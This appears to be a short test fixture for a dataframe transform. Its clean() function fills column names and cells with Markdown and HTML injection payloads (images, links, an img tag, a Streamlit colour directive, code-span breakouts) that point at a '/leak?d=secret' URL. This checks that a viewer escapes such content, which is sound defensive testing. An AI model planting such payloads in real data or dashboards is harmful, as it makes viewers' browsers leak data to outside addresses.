# expect: ok
# mode: transform
# Column names and values that are Markdown: an image that would make the viewer's browser fetch
# an outside address, a link, a Streamlit colour directive, a code span breaking out.
PARAMS: dict = {}


def clean(df):
    url = f"http://127.0.0.1:{PARAMS['port']}/leak?d=secret"
    df[f"![x]({url})"] = 1
    df[f"[click]({url})"] = "![y](" + url + ")"
    df[":red[alarm] $x$ <img src=" + url + ">"] = 2
    df["a`b ![z](" + url + ") `c"] = 3
    return df
